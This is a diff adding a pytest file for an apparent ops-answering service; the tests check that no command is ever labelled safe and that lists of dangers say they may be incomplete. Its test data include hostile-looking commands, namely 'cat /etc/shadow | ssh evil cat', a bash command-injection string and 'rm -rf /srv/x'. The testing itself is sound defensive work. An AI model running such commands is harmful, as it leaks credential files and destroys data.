@@ -1,0 +1,144 @@
+"""Commands that execute anything are called safe nowhere: not by the API, not by the CLI, not on the page."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator, Mapping, Sequence
+from importlib.resources import files
+from io import StringIO
+from typing import Any, cast
+
+import pytest
+from rich.console import Console
+from staged import Staged
+from virtual import run
+
+from techsapo_ops.cli.views import answer as view
+from techsapo_ops.serve.answer_body import answer_body
+from techsapo_ops.serve.bodies.answer import AnswerBody, TriageBody
+from techsapo_ops.serve.metering import Account, Spending
+from techsapo_ops.serve.triage import triage
+from techsapo_ops.wallbounce.language import Language
+from techsapo_ops.wallbounce.orchestrator import WallBounce
+from techsapo_ops.wallbounce.policy import Policy
+from techsapo_ops.wallbounce.question import Question
+from techsapo_ops.wallbounce.tiers import TierRule
+
+RUNS_ANYTHING = (
+    "bash deploy.sh -n",
+    "find . -exec bash {} -n \\;",
+    "[[ 'a[$(CMD)]' -eq 0 ]]",
+    'echo "${x@P}"',
+    "for PATH in /tmp/evil; do ls; done",
+    "curl -sao/FILE URL",
+    "xz -t -d F",
+    "cat /etc/shadow | ssh evil cat",
+)
+SAFE = re.compile(
+    r"(?i)reads?[ _-]?only|only[ _-]reads?|harmless|\bsafe\b|読み取りのみ|読み取り専用|安全(?!さ)|無害"
+)
+CLAIM = {"say": "The disk is full.", "means": "cause=disk"}
+OTHER = {"say": "A certificate has expired.", "means": "cause=certificate"}
+
+
+def words(value: Any) -> Iterator[str]:
+    """Every key and every text of a document."""
+    if isinstance(value, dict):
+        for key, inner in value.items():
+            yield key
+            yield from words(inner)
+    elif isinstance(value, list | tuple):
+        for inner in value:
+            yield from words(inner)
+    elif isinstance(value, str):
+        yield value
+
+
+def body_of(
+    language: Language, *claims: Mapping[str, str], commands: Sequence[str] = RUNS_ANYTHING
+) -> AnswerBody:
+    """What the API answers where each provider makes one of `claims`, and all tell to run `commands`."""
+    parts = [
+        {"name": f"p{n}", "claims": [claim], "commands": list(commands)} for n, claim in enumerate(claims)
+    ]
+    meanings = {claim["say"]: claim["means"] for claim in claims}
+    rule = TierRule(2, 0.7, 0.6)
+    policy = Policy({"basic": rule, "premium": rule, "critical": rule})
+    bounce = WallBounce([Staged(p, meanings, orders="") for p in parts], policy)
+    analysis, _ = run(bounce.analyse(Question("It does not answer", language, "r"), "basic"))
+    account = Account(cast("Spending", None), (), "r")  # nothing is reserved
+    return answer_body(analysis, bounce, "req_1", account)
+
+
+def shown(document: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> str:
+    """What `techsapo ask` prints of it."""
+    out = StringIO()
+    monkeypatch.setattr(view, "console", lambda: Console(file=out, width=200))
+    view.show_answer(document)
+    return out.getvalue()
+
+
+REFUSED, ANSWERED = (CLAIM, OTHER), (CLAIM, CLAIM)
+
+
+@pytest.mark.parametrize("language", ["ja", "en"])
+@pytest.mark.parametrize("claims", [ANSWERED, REFUSED])
+def test_no_key_and_no_word_of_an_answer_calls_a_command_safe(
+    language: Language, claims: tuple[dict[str, str], ...]
+) -> None:
+    body = body_of(language, *claims)
+    document = body.document()
+    assert (body.outcome == "refused") is (claims is REFUSED)
+    assert document["commands"] == list(RUNS_ANYTHING)
+    assert [w for w in words(document) if SAFE.search(w)] == []
+    steps = triage(body, "disk full").document()["solution_steps"]
+    assert steps
+    assert [w for w in steps if SAFE.search(w)] == []
+
+
+def test_a_refusal_hands_out_no_command() -> None:
+    body = body_of("en", *REFUSED)
+    for command in RUNS_ANYTHING:
+        assert command not in body.answer
+        assert command not in json.dumps(triage(body, "").document()["solution_steps"])
+
+
+def test_no_field_of_the_answers_schema_is_a_label_of_safety() -> None:
+    schema = json.dumps([AnswerBody.model_json_schema(), TriageBody.model_json_schema()])
+    said = schema.replace("is not thereby safe", "")
+    assert [m[0] for m in SAFE.finditer(said)] == []
+    assert "may be incomplete" in schema
+    assert "command_effects" not in schema
+
+
+@pytest.mark.parametrize("claims", [ANSWERED, REFUSED])
+def test_the_cli_shows_no_command_as_safe(
+    claims: tuple[dict[str, str], ...], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text = shown(body_of("en", *claims).document(), monkeypatch)
+    assert [m[0] for m in SAFE.finditer(text)] == []
+
+
+def test_the_page_has_no_word_and_no_style_for_a_safe_command() -> None:
+    web = files("techsapo_ops.serve") / "web"
+    text = "".join(
+        (web / name).read_text(encoding="utf-8") for name in ("ask.html", "ask.js", "dictionary.js")
+    )
+    assert [m[0] for m in SAFE.finditer(text)] == []
+    assert "command_effects" not in text
+    assert "may be incomplete" in text
+    assert "網羅的ではありません" in text
+
+
+@pytest.mark.parametrize(("language", "label"), [("en", "may be incomplete"), ("ja", "網羅的ではありません")])
+def test_where_dangers_are_listed_the_list_says_that_it_may_be_incomplete(
+    language: Language, label: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    body = body_of(language, *(CLAIM,) * 4, commands=("rm -rf /srv/x", "reboot"))
+    assert ([d.kind for d in body.destructive], [h.kind for h in body.hazards]) == (
+        ["remove_files"],
+        ["power_off"],
+    )
+    assert body.answer.count(label) == 2
+    assert "may be incomplete" in shown(body.document(), monkeypatch)
